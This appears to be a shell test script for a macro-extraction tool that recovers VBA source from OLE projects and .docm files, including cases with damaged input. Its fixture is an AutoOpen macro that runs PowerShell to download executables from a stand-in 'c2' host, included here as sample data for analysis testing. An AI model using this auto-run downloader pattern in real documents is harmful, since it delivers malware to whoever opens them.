#!/bin/sh
# Macros: their source out of old and new office files.
b=$SLUICE_BIN here=$PWD/tests/cli
cd "$TEST_TMP" || exit 1
n=0
ok() { n=$((n + 1)); if [ "$1" -eq 0 ]; then echo "ok $n - $2"; else echo "not ok $n - $2"; fi; }
is() { [ "$1" = "$2" ]; r=$?; ok $r "$3"; [ $r -eq 0 ] || { printf '%s\n' "$1" | sed 's/^/#   got  /'; printf '%s\n' "$2" | sed 's/^/#   want /'; }; }
text() { "$b/sluice-text" --ocr none -j 1 "$@" 2>&1; }

printf 'Attribute VB_Name = "Module1"\r\nAttribute VB_Base = "0{0}"\r\nSub AutoOpen()\r\n  Shell "powershell -c iwr http://c2.elbonia.example/a.exe"\r\n  Shell "powershell -c iwr http://c2.elbonia.example/b.exe"\r\n  MsgBox "\272\317\315\254"\r\nEnd Sub\r\n' > source
printf 'Attribute VB_Name = "Sheet1"\r\nAttribute VB_Base = "0{0}"\r\n' > sheet
# dir: the size record, the version (whose length lies), the code page 936
{ printf '\001\000\004\000\000\000\001\000\000\000'; printf '\011\000\004\000\000\000\001\000\000\000\001\000'; printf '\003\000\002\000\000\000\250\003'; } | perl "$here/make_vba.pl" | tail -c +101 > dir
perl "$here/make_vba.pl" < source > module; perl "$here/make_vba.pl" < sheet > sheet.bin; printf 'x' > project; printf 'x' > word
perl "$here/make_ole.pl" vbaProject.bin dir=dir _VBA_PROJECT=project Module1=module Sheet1=sheet.bin
macro='Attribute VB_Name = "Module1"
Sub AutoOpen()
  Shell "powershell -c iwr http://c2.elbonia.example/a.exe"
  Shell "powershell -c iwr http://c2.elbonia.example/b.exe"
  MsgBox "合同"
End Sub'
is "$(text vbaProject.bin)" "$macro" "a project by itself; a module of attributes only is not told"
mkdir -p d/word d/_rels
printf '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>' > "d/[Content_Types].xml"
printf '<w:document xmlns:w="w"><w:body><w:p><w:r><w:t>Read me</w:t></w:r></w:p></w:body></w:document>' > d/word/document.xml
printf '<Relationships/>' > d/_rels/.rels
cp vbaProject.bin d/word/
(cd d && zip -qr ../a.docm .)
is "$(text a.docm)" "Read me
$macro" "a document that bears one"
is "$("$b/sluice-unpack" -q -o st a.docm | "$b/sluice-identify" | "$b/sluice-text" | "$b/sluice-refs" | jq -r 'select(.kind=="url").value' | tr '\n' ' ')" "http://c2.elbonia.example/a.exe http://c2.elbonia.example/b.exe " "what it fetches is a reference"
# damaged: a copy that reaches back before the beginning
perl -0777 -pe 'substr($_, 103, 1) = "\xff"' module > bad
perl "$here/make_ole.pl" bad.bin dir=dir _VBA_PROJECT=project Module1=bad
"$b/sluice-text" --json bad.bin > bad.json; [ $? -le 1 ]; ok $? "damage ends in a loss or less"
bad=0
for at in 110 150 180 220; do perl -0777 -pe "substr(\$_, $at, 2) = qq(\\xff\\xff)" module > bad; perl "$here/make_ole.pl" bad.bin dir=dir _VBA_PROJECT=project Module1=bad; "$b/sluice-text" --json bad.bin > bad.json 2>&1; [ $? -le 1 ] || bad=1; done
ok $bad "damaged further on"
# of a document, too, and not silently: the project cut, its list damaged, its source gone
losses() { cp "$1" d/word/vbaProject.bin; rm -f bad.docm; (cd d && zip -qr ../bad.docm .); "$b/sluice-text" --json bad.docm | jq -r 'select(.type == "error").code' | tr '\n' ' '; }
is "$(losses vbaProject.bin)" "" "a sound project tells no loss"
head -c 1000 vbaProject.bin > bad.bin; is "$(losses bad.bin | grep -c .)" 1 "a project that is cut is told"
printf 'no compound file' > bad.bin; is "$(losses bad.bin | grep -c .)" 1 "a project that is none is told"
perl -0777 -pe 'substr($_, 0, 1) = "\xff"' dir > bad; perl "$here/make_ole.pl" bad.bin dir=bad _VBA_PROJECT=project Module1=module; is "$(losses bad.bin)" "corrupt " "a damaged list of modules is told"
printf 'nothing' > bad; perl "$here/make_ole.pl" bad.bin dir=dir _VBA_PROJECT=project Module1=bad; is "$(losses bad.bin)" "corrupt " "a source that was removed is told"
echo "1..$n"
